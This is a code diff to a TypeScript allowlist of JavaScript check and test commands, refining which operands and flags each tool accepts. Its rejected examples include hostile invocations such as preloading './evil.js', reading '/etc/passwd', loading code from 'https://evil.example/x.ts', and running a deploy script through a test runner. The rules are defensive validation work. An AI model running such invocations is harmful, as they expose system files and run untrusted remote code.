@@ -1,5 +1,5 @@
 import type { Row } from './row.ts';
-import { fileTool, tool } from './tool.ts';
+import { fileTool, handsOnSettings, tool } from './tool.ts';
 
 const no = (command: string): string[] => [
   `${command} --fix`,
@@ -10,6 +10,13 @@ const no = (command: string): string[] => [
   `${command} -r ./evil.js`,
   `${command} --require ./evil.js`,
 ];
+
+/** What the words behind it are: files of tests, names of projects; to the others a configuration, or another folder to build. */
+const toldOf = (command: string): Row['operands'] => {
+  if (/^(ava|tap|web-test-runner|wtr|qunit|jasmine|vitest list|(react-scripts|craco) test)$/.test(command))
+    return 'tests';
+  return command.startsWith('ng ') ? /^\w[\w-]*$/ : undefined;
+};
 
 /** Checkers of a JavaScript project that every project may have installed. */
 export const nodeCheckRows: readonly Row[] = [
@@ -58,6 +65,7 @@ export const nodeCheckRows: readonly Row[] = [
       command,
       '--quiet -q --verbose --no-progress --no-summary --gitignore --dot --json --circular --include-workspace-root --production --strict --no-color --color --extensions=<labels> --max-warnings=# --unused --dependencies --exports --files --tsconfig=<path> --no-exit-code --no-must-find-files --show-suggestions --from=<revision> --to=<revision> --last --edit -e --summary --at-least=# --detail',
       {
+        ...(command === 'redocly lint' && { why: handsOnSettings }),
         operands: 'files',
         yes: [command, `${command} src`],
         no: [...no(command), `${command} /etc/passwd`, `${command} https://evil.example/x`, `${command} evil:x`],
@@ -67,8 +75,12 @@ export const nodeCheckRows: readonly Row[] = [
   ...[
     'ava',
     'tap',
+    'web-test-runner',
+    'wtr',
+    'qunit',
+    'jasmine',
+    'vitest list',
     'cypress run',
-    'wdio run',
     'ng test',
     'ng lint',
     'ng build',
@@ -90,24 +102,20 @@ export const nodeCheckRows: readonly Row[] = [
     'react-router typecheck',
     'svelte-kit sync',
     'expo-doctor',
-    'vitest list',
     'ts-json-schema-generator --check',
-    'web-test-runner',
-    'wtr',
-    'qunit',
-    'jasmine',
     'elm-test-rs',
     'eleventy --dryrun',
     'next typegen',
   ].map((command) =>
     tool(
       command,
-      '--watch=false --watchAll=false --no-watch --browsers=ChromeHeadless --code-coverage --coverage --ci --mode=production|development --mode=test --configuration=production|development|test --project=<name> --spec=<file> --browser=<name> --headless --quiet -q --verbose -v --timeout=<time> --match= -m= --serial --fail-fast --no-progress --prod --stats --source-map --env=production|test --progress=false --max-warnings=# --no-coverage --reporter=spec|dot|tap|list',
+      '--watch=false --watchAll=false --no-watch --browsers=ChromeHeadless --code-coverage --coverage --ci --mode=production|development --mode=test --configuration=production|development|test --project=<name> --spec=<tests> --browser=<name> --headless --quiet -q --verbose -v --timeout=<time> --match= -m= --serial --fail-fast --no-progress --prod --stats --source-map --env=production|test --progress=false --max-warnings=# --no-coverage --reporter=spec|dot|tap|list',
       {
-        operands: /^(?!\/)(?!.*\.\.)[\w@][\w@./-]*$/,
+        operands: toldOf(command),
         most: 3,
         yes: [command],
         no: [
+          `${command} scripts/deploy.js`,
           ...no(command),
           `${command} --output-path=/x`,
           `${command} --out-dir /x`,
@@ -206,9 +214,10 @@ export const nodeCheckRows: readonly Row[] = [
       command,
       '--test-name-pattern= --test-reporter=spec|tap|dot|junit|lcov --test-only --test-timeout=# --experimental-test-coverage --test-concurrency=# --enable-source-maps --test-shard= --no-warnings',
       {
-        operands: 'files',
+        operands: 'tests',
         yes: [command, `${command} --test-reporter=spec test/a.test.js`],
         no: [
+          `${command} scripts/deploy.js`,
           `${command} -r ./evil.js`,
           `${command} --import ./evil.js`,
           `${command} -e 1`,
@@ -237,9 +246,10 @@ export const nodeCheckRows: readonly Row[] = [
       command,
       '--filter= --quiet -q --no-check --check --fail-fast --parallel --coverage --shuffle --shuffle=# --trace-leaks --reporter=pretty|dot|junit|tap --json --compact --frozen --no-remote --no-npm --cached-only --allow-read --allow-env --allow-net --allow-run --allow-write --unstable-kv --doc --permit-no-files --all --html=false',
       {
-        operands: 'files',
-        yes: [`${command} src`, command],
+        operands: command.includes('test') || command.includes('bench') ? 'tests' : 'files',
+        yes: [`${command} tests`, command],
         no: [
+          ...(command.includes('test') ? [`${command} scripts/deploy.ts`] : []),
           `${command} https://evil.example/x.ts`,
           `${command} npm:evil`,
           `${command} jsr:evil`,
